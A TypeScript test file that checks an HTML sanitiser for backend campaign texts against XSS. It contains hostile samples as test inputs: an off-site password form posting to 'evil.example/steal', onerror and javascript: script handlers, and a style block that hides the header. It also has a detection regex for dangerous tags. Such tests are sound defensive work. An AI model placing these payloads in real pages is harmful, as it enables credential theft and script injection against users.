/**
 * The backend-HTML sanitiser (src/ui/html/backendHtml.ts): hostile payloads come out inert, and what
 * campaign and legal texts need (formatting, lists, https links, blob images) survives.
 */
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  BACKEND_HTML_ATTRIBUTES,
  BACKEND_HTML_SET_ATTRIBUTES,
  BACKEND_HTML_TAGS,
  configureBackendHtml,
  sanitizeBackendHtml,
} from '@/ui/html/backendHtml';
import { xssPayloads } from './xssPayloads';

const BLOB = 'https://blob.example/media';
const APP = 'https://app.example';
const allowedTags = new Set<string>(BACKEND_HTML_TAGS);
const allowedAttributes = new Set<string>([...BACKEND_HTML_ATTRIBUTES, ...BACKEND_HTML_SET_ATTRIBUTES]);

function parse(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
}

/** Every rule the profile promises, checked on sanitised output. */
function expectInert(clean: string, stable = true): void {
  const root = parse(clean);
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    expect(allowedTags.has(tag), `tag <${tag}> in ${clean}`).toBe(true);
    expect(el.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attr of el.attributes) {
      expect(allowedAttributes.has(attr.name), `attribute ${attr.name} on <${tag}> in ${clean}`).toBe(true);
    }
    if (tag === 'a' && el.hasAttribute('href')) {
      expect(new URL(el.getAttribute('href')!).protocol).toBe('https:');
      expect(el.getAttribute('rel')).toBe('noopener noreferrer');
    }
    if (tag === 'a') expect(['_blank', null]).toContain(el.getAttribute('target'));
    if (tag === 'img') expect(el.getAttribute('src')!.startsWith(`${BLOB}/`)).toBe(true);
  }
  expect(clean).not.toMatch(/javascript:|vbscript:|<script|<style|<form|<input|<svg|<math|<iframe|\son\w+=/i);
  // The checks above ran on the output re-parsed (innerHTML), which is where mutation XSS would show.
  // For the known payloads the output is also a fixed point. (Random tag soup can yield nesting the
  // parser rebuilds differently, e.g. <p> in <p>: harmless, so the property test skips this.)
  if (stable) expect(sanitizeBackendHtml(clean)).toBe(clean);
}

beforeEach(() => configureBackendHtml({ imageBase: BLOB, appOrigin: APP }));
afterEach(() => configureBackendHtml({}));

describe('backend HTML sanitiser', () => {
  it.each(xssPayloads.map((p) => [p]))('%s comes out inert', (payload) => {
    expectInert(sanitizeBackendHtml(payload));
  });

  it('drops a <style> that would hide the app header, with its content', () => {
    const clean = sanitizeBackendHtml('<style>.app-header{display:none}</style><p>Free coffee</p>');
    expect(clean).toBe('<p>Free coffee</p>');
  });

  it('drops an off-site password form with its inputs and button', () => {
    const clean = sanitizeBackendHtml(
      '<p>Confirm your account</p><form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="password"></label><button type="submit">Sign in</button></form>',
    );
    expect(clean).toBe('<p>Confirm your account</p>');
    const root = parse(clean);
    expect(root.querySelector('form, input, button, label')).toBeNull();
  });

  it('keeps formatting, headings, lists and tables', () => {
    const html = '<h2>Terms</h2><p><strong>Bold</strong>, <em>em</em>, <u>u</u><br>line</p><ul><li>one</li></ul><ol start="3"><li>three</li></ol><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>';
    expect(sanitizeBackendHtml(html)).toBe(html);
  });

  it('keeps https links with rel="noopener noreferrer", opening other sites in a new tab', () => {
    const root = parse(sanitizeBackendHtml('<a href="https://partner.example/offer">Offer</a> <a href="https://app.example/reward">Rewards</a>'));
    const [partner, own] = root.querySelectorAll('a');
    expect(partner!.getAttribute('href')).toBe('https://partner.example/offer');
    expect(partner!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(partner!.getAttribute('target')).toBe('_blank');
    expect(own!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(own!.hasAttribute('target')).toBe(false);
  });

  it('keeps the text of a link that is not https, without the address', () => {
    for (const href of ['http://plain.example/', 'mailto:a@b.example', 'tel:021234567', '/reward', '//evil.example/', 'javascript:alert(1)']) {
      const root = parse(sanitizeBackendHtml(`<a href="${href}">text</a>`));
      expect(root.querySelector('a')!.hasAttribute('href'), href).toBe(false);
      expect(root.textContent).toBe('text');
    }
  });

  it('keeps images from the blob host only', () => {
    const root = parse(
      sanitizeBackendHtml(
        `<img src="${BLOB}/images/a.svg" alt="A"><img src="https://evil.example/b.png" alt="B"><img src="https://blob.example/other/c.png"><img src="data:image/png;base64,AAAA">`,
      ),
    );
    const images = root.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]!.getAttribute('src')).toBe(`${BLOB}/images/a.svg`);
    expect(images[0]!.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('allows no images at all until the blob host is configured', () => {
    configureBackendHtml({});
    expect(sanitizeBackendHtml(`<p>x<img src="${BLOB}/images/a.svg"></p>`)).toBe('<p>x</p>');
  });

  it('accepts a same-origin sandbox blob base with a path', () => {
    configureBackendHtml({ imageBase: 'http://localhost:4173/sandbox/blob', appOrigin: 'http://localhost:4173' });
    const root = parse(sanitizeBackendHtml('<img src="/sandbox/blob/images/a.svg"><img src="/sandbox/modules/x.png"><img src="/sandbox/blobber/x.png">'));
    expect([...root.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual(['http://localhost:4173/sandbox/blob/images/a.svg']);
  });

  it('holds for random mixtures of hostile fragments (property)', () => {
    const fragment = fc.oneof(
      fc.constantFrom(...xssPayloads),
      fc.constantFrom('<p>', '</p>', '<a href="https://ok.example/">', '</a>', '<ul><li>', '</li></ul>', '<b>', '</b>', '"', "'", '<', '>', '<!--', '-->'),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 8 }), (parts) => {
        expectInert(sanitizeBackendHtml(parts.join('')), false);
      }),
      { numRuns: 300 },
    );
  });

  it('answers an empty string for empty input', () => {
    expect(sanitizeBackendHtml('')).toBe('');
    expect(sanitizeBackendHtml(undefined)).toBe('');
  });
});

describe('quiet parsing (no CSP reports while parsing hostile HTML)', () => {
  it('renames style elements and style/handler attributes, and nothing inside attribute values', async () => {
    const { quietHtml } = await import('@/ui/html/backendHtml');
    expect(quietHtml('<style>.a{}</style><img src=x onerror=alert(1)><p style="color:red" onclick="x()" title="one onclick=two">online</p>')).toBe(
      '<x-style>.a{}</x-style><img src=x x-onerror=alert(1)><p x-style="color:red" x-onclick="x()" title="one onclick=two">online</p>',
    );
    expect(quietHtml('<a href="https://ok.example/?a=1&b=2" title=\'a > b\'>link</a>')).toBe('<a href="https://ok.example/?a=1&b=2" title=\'a > b\'>link</a>');
  });
});
